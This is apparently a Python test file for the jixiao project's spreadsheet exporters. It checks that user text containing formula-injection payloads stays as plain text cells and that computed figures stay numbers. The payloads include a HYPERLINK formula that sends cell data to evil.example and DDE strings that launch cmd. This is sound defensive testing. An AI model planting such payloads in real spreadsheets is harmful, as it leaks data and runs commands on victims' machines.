"""Formula injection (#9.1): every workbook jixiao writes keeps user text as text cells.

Each xlsx writer gets hostile text wherever a user can put text (a target name, an improvement, a
unit or project name, a rule-set's wording, an audited file's name); every cell of the result must be
a text cell ("s") or a number — never a formula ("f") or an error ("e") — and the text must read back
as typed (less openpyxl's illegal control characters). Figures we compute stay numeric cells.
"""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import load_workbook

from jixiao.audit.batch import FileResult, summary_workbook
from jixiao.campaigns.progress_export import progress_workbook
from jixiao.documents.package import DATA_TABLE_NAME, SCORING_TABLE_NAME, render_package
from jixiao.organisations.unit_import import template_workbook
from scoring import score_evaluation
from scoring.ruleset_sheet import export_sheet
from scoring.sheet_cells import cell_text

from .conftest import project_evaluation, project_ruleset

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看附件")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "#N/A",
    "=1+1\x07\x00\x1b铃",
)


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text_safe(data: bytes, hostile: tuple[str, ...] = HOSTILE) -> list[Any]:
    cells = _cells(data)
    bad = [(c.coordinate, c.data_type, c.value) for c in cells if c.data_type in ("f", "e")]
    assert bad == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in hostile:
        clean = cell_text(text)
        assert any(clean in value for value in texts), f"{text!r} did not read back"
    assert not any("\x07" in value or "\x00" in value for value in texts)
    return cells


def _hostile_evaluation():
    h = HOSTILE
    return project_evaluation(
        unit={"name": h[0], "supervisor": h[1]},
        project={"name": h[2], "goal_expected": h[3], "goal_actual": h[4]},
        targets=[
            {
                "code": "P1a",
                "name": h[5],
                "unit": "人次",
                "target": 800,
                "actual": 720,
                "parent": "P1",
                "points": 40,
                "explanation": h[6],
            },
            {
                "code": "P1b",
                "name": h[7],
                "unit": "%",
                "target": 90,
                "actual": "92.5",
                "parent": "P1",
                "points": 20,
                "explanation": h[8],
            },
        ],
        problems=[h[9]],
        improvements=[h[1]],
        example_note=h[0],
    )


@pytest.fixture(scope="module")
def hostile_package() -> dict[str, bytes]:
    evaluation = _hostile_evaluation()
    result = score_evaluation(evaluation, project_ruleset())
    return render_package(evaluation, result, ["xlsx"])


@pytest.mark.parametrize("name", [DATA_TABLE_NAME, SCORING_TABLE_NAME])
def test_data_and_scoring_tables_keep_hostile_text_as_text(hostile_package, name) -> None:
    hostile = HOSTILE if name == DATA_TABLE_NAME else (HOSTILE[0],)
    cells = _assert_text_safe(hostile_package[name], hostile)
    exact = {c.value for c in cells}
    assert HOSTILE[5] in exact or name == SCORING_TABLE_NAME  # 三级指标 cell = the typed name


def test_computed_figures_stay_numbers(hostile_package) -> None:
    book = load_workbook(io.BytesIO(hostile_package[DATA_TABLE_NAME]))
    ws = book.active
    total_row = next(r for r in ws.iter_rows() if r[0].value == "总分")
    assert total_row[5].data_type == "n" and Decimal(str(total_row[5].value)) == 100
    assert total_row[6].data_type == "n"
    budget_row = next(r for r in ws.iter_rows() if r[1].value == "年度资金总额")
    assert [c.data_type for c in budget_row[2:8]] == ["n"] * 6
    scoring = load_workbook(io.BytesIO(hostile_package[SCORING_TABLE_NAME])).active
    points = [r[4] for r in scoring.iter_rows(min_row=3) if isinstance(r[0].value, int)]
    assert points and all(c.data_type == "n" for c in points)


def test_ruleset_export_keeps_hostile_text_as_text() -> None:
    ruleset = project_ruleset().model_copy(update={"name": HOSTILE[0], "description": HOSTILE[1]})
    data = ruleset.model_dump(mode="json")
    data["indicators"][1]["children"][0]["explanation"] = HOSTILE[3]
    data["indicators"][1]["children"][0]["criteria"] = HOSTILE[9]
    data["indicators"][0]["name"] = HOSTILE[4]
    hostile = type(ruleset).model_validate(data)
    cells = _assert_text_safe(export_sheet(hostile), (HOSTILE[0], HOSTILE[1], HOSTILE[3],
                                                       HOSTILE[4], HOSTILE[9]))  # fmt: skip
    assert any(c.value == 60 and c.data_type == "n" for c in cells)  # 分值 stays a number


def test_progress_export_keeps_unit_names_as_text() -> None:
    moment = dt.datetime(2026, 5, 1, 8, 0, tzinfo=dt.UTC)

    def row(name: str, project: str, grade: str) -> SimpleNamespace:
        unit = SimpleNamespace(
            name=name, credit_code=HOSTILE[4], parent=SimpleNamespace(name=HOSTILE[1])
        )
        evaluation = SimpleNamespace(
            unit=unit, project_name=project, deadline=moment, total=Decimal("95.26"), grade=grade,
            updated_at=moment, first_saved_at=moment,
        )  # fmt: skip
        return SimpleNamespace(evaluation=evaluation, progress_label=HOSTILE[8], overdue=False)

    campaign = SimpleNamespace(title=HOSTILE[0], notice_number=HOSTILE[9])
    progress = SimpleNamespace(rows=[row(*HOSTILE[2:4], "优"), row(*HOSTILE[5:8])])
    data = progress_workbook(campaign, progress)  # type: ignore[arg-type]
    cells = _assert_text_safe(data)
    scores = [c for c in cells if c.value == Decimal("95.26") or c.value == 95.26]
    assert len(scores) == 2 and all(c.data_type == "n" for c in scores)


@pytest.mark.django_db
def test_unit_import_template_keeps_department_names_as_text() -> None:
    _assert_text_safe(template_workbook(department_names=HOSTILE))


def test_audit_summary_keeps_file_names_and_quotes_as_text() -> None:
    results = [
        FileResult(
            path=Path("x"),
            name=text,
            status="not_a_report",
            reason=HOSTILE[(i + 1) % len(HOSTILE)],
        )
        for i, text in enumerate(HOSTILE)
    ]
    _assert_text_safe(summary_workbook(results))
